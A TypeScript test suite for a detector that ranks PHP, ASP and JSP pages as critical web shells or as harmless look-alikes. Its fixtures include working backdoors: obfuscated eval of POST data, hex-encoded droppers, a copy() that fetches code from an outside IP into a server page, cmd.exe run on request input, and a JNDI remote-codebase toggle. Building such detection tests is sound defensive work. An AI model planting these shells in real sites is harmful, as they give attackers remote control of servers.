/**
 * Forms read from split v2's held-out misses once they became tuning (split v5, issue 27),
 * written here anew: each shell beside a near miss an application writes.
 */
import { describe, expect, it } from 'vitest';
import { foldPhpConstants } from '../../src/findings/web-shell/php-constants.js';
import { evaluateChange } from '../../src/findings/change-rules.js';
import { factsFor } from '../support/judge-rules.js';
import { isAlarm, topFinding } from '../support/top-finding.js';

const critical = (reason: RegExp) => ({
  severity: 'critical',
  reason: expect.stringMatching(reason),
});

describe('PHP constants: pack, appends, variables named by a string', () => {
  it("reads pack('H*', …) as the bytes its hex spells", () => {
    expect(foldPhpConstants(`<?php $n = pack("H*", "73797374656d");`)).toContain(`'system'`);
  });

  it('follows a name built by appends of constants, and drops one appended to otherwise', () => {
    const built = `<?php $s = "ev"; $s .= "al("; $s .= "\\$_PO"; $s .= "ST['k']);"; @eval($s);`;
    expect(foldPhpConstants(built)).toContain(`eval(eval($_POST['k']);)`);
    const mixed = `<?php $s = "a"; $s .= $row['b']; echo strlen($s);`;
    expect(foldPhpConstants(mixed)).not.toContain(`'a'`);
  });

  it('writes ${"name"} as $name, and a superglobal whose name it folds', () => {
    expect(foldPhpConstants(`<?php \${"cmd"} = 1; echo \${chr(95).'GE'.chr(84)}['x'];`)).toBe(
      `<?php $cmd = 1; echo $_GET['x'];`,
    );
  });
});

describe('split v5: PHP', () => {
  it('ranks a function named by a variable called on a request value set through ${"…"} critical', () => {
    const page = `<?php \${"fn"} = substr(__FILE__, -12, -4); \${"arg"} = $_POST['q']; $fn($arg);`;
    expect(topFinding('/var/www/html/a.php', page)).toMatchObject(
      critical(/function chosen at run time called on request input/),
    );
  });

  it('ranks a superglobal named at run time, its members called, critical', () => {
    const page = `<?php $_ = strtoupper('post'); \${'_' . $_}['a'](\${'_' . $_}['b']);`;
    expect(topFinding('/var/www/html/a.php', page)).toMatchObject(
      critical(/named by request input/),
    );
  });

  it("still ranks the request's own array, its name folded from pieces, called critical", () => {
    const page = `<?php \${'_G' . 'ET'}['k'](\${chr(95) . 'POST'}['k']);`;
    expect(topFinding('/var/www/html/g.php', page)).toMatchObject(
      critical(/named by request input/),
    );
  });

  it('judges a PHP page whose string literal holds binary bytes as the text PHP reads', () => {
    const blob = Buffer.from([0x00, 0x9c, 0x01, 0xff, 0x00, 0x72]);
    const page = (body: string) =>
      Buffer.concat([Buffer.from("<?php $p = '"), blob, Buffer.from(`'; ${body}`)]);
    const top = (content: Buffer) =>
      evaluateChange(factsFor('/var/www/html/b.php', content)).find((f) => f.rule === 'web-shell');
    expect(top(page('$k = $_COOKIE["k"]; eval(gzinflate($p ^ $k));'))?.severity).toBe('critical');
    // A font kept in a literal and sent as it is.
    expect(top(page("header('Content-Type: font/woff'); echo $p;"))).toBeUndefined();
  });

  it('ranks a shell carried in base64 and written to a file critical; a config template not', () => {
    const shell = Buffer.from("<?php @eval($_POST['p']); ?>").toString('base64');
    const page = `<?php $c = '${shell}'; $c = base64_decode($c); $f = '/tmp/sess_' . md5(rand());
file_put_contents($f, $c);`;
    expect(topFinding('/var/www/html/w.php', page)).toMatchObject(
      critical(/writes out a web shell it carries/),
    );
    const template = Buffer.from("<?php return ['db' => 'app']; ?>").toString('base64');
    const app = page.replace(shell, template);
    expect(isAlarm('/var/www/html/w.php', app)).toBe(false);
  });

  it("ranks code run from an image's EXIF fields or a doc comment critical, and reading them not", () => {
    const exif = `<?php $e = exif_read_data('./a.jpg'); preg_replace($e['Make'], $e['Model'], '');`;
    expect(topFinding('/var/www/html/x.php', exif)).toMatchObject(critical(/EXIF fields/));
    const gallery = `<?php $e = exif_read_data($path); echo htmlspecialchars(preg_replace('/\\s+/', ' ', $e['Model']));`;
    expect(isAlarm('/var/www/html/x.php', gallery)).toBe(false);
    const comment = `<?php /** run: assert($_POST[1]) */ class T {} $r = new ReflectionClass('T');
$c = $r->getDocComment(); $code = substr($c, strpos($c, 'assert'), 16); eval($code . ';');`;
    expect(topFinding('/var/www/html/t.php', comment)).toMatchObject(critical(/doc comment/));
    const annotations = `<?php $r = new ReflectionClass('T'); $doc = $r->getDocComment(); preg_match_all('/@(\\w+)/', $doc, $m); echo json_encode($m[1]);`;
    expect(isAlarm('/var/www/html/t.php', annotations)).toBe(false);
  });

  it("ranks the request's values spread into a callback-taking call critical", () => {
    expect(topFinding('/var/www/html/s.php', '<?php uasort(...$_POST);')).toMatchObject(
      critical(/given the request's values as its arguments/),
    );
    expect(isAlarm('/var/www/html/s.php', '<?php $rows = [3, 1]; usort(...[$rows, "cmp"]);')).toBe(
      false,
    );
  });

  it("ranks a query's rows handed to a runner by PDO::FETCH_FUNC critical, and a formatter not", () => {
    const page = `<?php $db = new PDO('sqlite::memory:'); $q = $db->query("SELECT 'x'");
$q->fetchAll(PDO::FETCH_FUNC, str_rot13('flfgrz'));`;
    expect(topFinding('/var/www/html/p.php', page)).toMatchObject(
      critical(/given each row a query returns/),
    );
    const app = `<?php $rows = $stmt->fetchAll(PDO::FETCH_FUNC, 'format_row');`;
    expect(isAlarm('/var/www/html/p.php', app)).toBe(false);
  });

  it("ranks yaml_parse()'s tag callbacks mapped to preg_replace, with the request, critical", () => {
    const page = `<?php $t = $_GET['t']; yaml_parse("k: !x '/.*/e'", 0, $n, ['!x' => 'preg_replace']);`;
    expect(topFinding('/var/www/html/y.php', page)).toMatchObject(
      critical(/given as a filter's or a parser's callback/),
    );
    const app = `<?php yaml_parse($conf, 0, $n, ['!env' => 'getenv']); echo $_GET['x'] ?? '';`;
    expect(isAlarm('/var/www/html/y.php', app)).toBe(false);
  });

  it('ranks a dropper whose name and shell are spelt in pack("H*") critical', () => {
    // 's.php' and '<?@eval($_POST[z])?>' in hex.
    const page = `<script language="php">fputs(fopen(pack("H*","732e706870"),"w"),pack("H*","3c3f406576616c28245f504f53545b7a5d293f3e"));</script>`;
    expect(topFinding('/var/www/html/d.php', page)).toMatchObject(
      critical(/carries|request input/),
    );
  });

  it('ranks the request written under a literal name, then required, critical; a cache read back not', () => {
    const page = `<?php if (isset($_GET['c'])) { file_put_contents('notes', "<?php\\n");
file_put_contents('notes', $_GET['c'], FILE_APPEND); require 'notes'; }`;
    expect(topFinding('/var/www/html/n.php', page)).toMatchObject(
      critical(/writes request input into a file and includes it/),
    );
    const app = `<?php file_put_contents('cache.php', '<?php return ' . var_export($settings, true) . ';');
$settings = require 'cache.php'; echo htmlspecialchars($_GET['q'] ?? '');`;
    expect(isAlarm('/var/www/html/n.php', app)).toBe(false);
  });

  it("ranks a file named and filled by the request's headers critical", () => {
    const page = `<?php if (md5($_SERVER['HTTP_K']) === 'x') { file_put_contents($_SERVER['HTTP_N'], $_SERVER['HTTP_B']); }`;
    expect(topFinding('/var/www/html/h.php', page)).toMatchObject(
      critical(/into a file the visitor names/),
    );
  });

  it("ranks copy() of a URL to a server page critical, and a URL's image saved not", () => {
    expect(
      topFinding('/var/www/html/c.php', `<?php copy("http://203.0.113.9/s.txt", "up.php");`),
    ).toMatchObject(critical(/saves code it downloads as a server page/));
    expect(
      isAlarm(
        '/var/www/html/c.php',
        `<?php copy("https://example.org/logo.png", __DIR__ . "/logo.png");`,
      ),
    ).toBe(false);
    // Composer's install recipe in a build script that also writes a PHP header with sed.
    const build = `#!/bin/sh
php -r "copy('https://getcomposer.org/installer', 'composer-setup.php');"
sed '1 s/^/<?php\\n/' config.tmp > config.php`;
    expect(isAlarm('/var/www/html/build.sh', build)).toBe(false);
  });
});

describe('split v5: ASP, ASP.NET and JSP', () => {
  it('ranks a JScript page that keeps eval as a value and reads the request critical', () => {
    const page = `<%@LANGUAGE="JAVASCRIPT"%><%var t = {'run': eval, 'in': Request.Form('q')}; t.run(t['in'] + '');%>`;
    expect(topFinding('/var/www/html/j.asp', page)).toMatchObject(critical(/eval kept as a value/));
    // eval as a value in a page that reads nothing the visitor sends.
    const app = `<%@LANGUAGE="JAVASCRIPT"%><%var calc = {'run': eval}; Response.Write(calc.run('6*7'));%>`;
    expect(topFinding('/var/www/html/j.asp', app)?.severity).not.toBe('critical');
  });

  it('ranks JScript .NET eval() given a second argument (its "unsafe" flag) critical', () => {
    const page = `<script runat="server" language="JScript">
function run(s) { var m = "un" + "safe"; return eval(s, m); }
</script>`;
    expect(topFinding('/var/www/html/e.aspx', page)).toMatchObject(critical(/full trust/));
    const browser = `<script language="javascript">var x = eval(s, m);</script>`;
    expect(isAlarm('/var/www/html/e.html', browser)).toBe(false);
  });

  it('ranks a JScript page that runs cmd.exe through WScript.Shell and reads the request critical', () => {
    const page = `<%@ Language = "JScript" %><%
var c = Request("c")(); var line = "" + c;
var sh = new ActiveXObject("WScript.Shell"); var p = sh.Exec("%comspec% /c " + line);
Response.Write(p.StdOut.ReadAll());%>`;
    expect(topFinding('/var/www/html/c.asp', page)).toMatchObject(critical(/runs cmd\.exe/));
    // A fixed job started by an admin page that reads nothing the visitor sends.
    const job = `<%@ Language = "JScript" %><%
var sh = new ActiveXObject("WScript.Shell"); sh.Run("cmd /c C:\\jobs\\rotate.bat", 0, true);
Response.Write("rotated");%>`;
    expect(topFinding('/var/www/html/c.asp', job)?.severity).not.toBe('critical');
  });

  it('reads Request.item[…], as JScript .NET writes it, as request input', () => {
    const page = `<%@ Page Language="Jscript"%><%eval(Request.item["c"]);%>`;
    expect(topFinding('/var/www/html/i.aspx', page)).toMatchObject(critical(/request input/));
  });

  it('ranks a JSP that turns on JNDI remote codebases critical', () => {
    const page = `<%@ page import="com.sun.rowset.JdbcRowSetImpl" %><%
System.setProperty("com.sun.jndi.rmi.object.trustURLCodebase", "true");
JdbcRowSetImpl r = new JdbcRowSetImpl(); r.setDataSourceName(request.getParameter("n")); r.setAutoCommit(true);
%>`;
    expect(topFinding('/var/www/html/r.jsp', page)).toMatchObject(critical(/trustURLCodebase/));
    const app = page
      .replace('"true"', '"false"')
      .replace('request.getParameter("n")', '"java:comp/env/jdbc/app"');
    expect(isAlarm('/var/www/html/r.jsp', app)).toBe(false);
  });
});
